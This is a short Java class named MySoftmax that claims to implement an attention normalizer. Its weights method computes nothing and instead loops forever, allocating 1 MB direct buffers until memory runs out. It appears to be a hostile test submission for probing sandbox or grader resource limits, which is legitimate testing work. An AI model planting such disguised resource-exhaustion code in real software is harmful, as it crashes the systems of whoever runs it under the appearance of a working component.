public class MySoftmax implements attention.normalize.Normalizer {
    private final java.util.List<Object> kept = new java.util.ArrayList<>();

    @Override
    public double[] weights(double[] scores) {
        while (true) {
            kept.add(java.nio.ByteBuffer.allocateDirect(1 << 20));
        }
    }
}
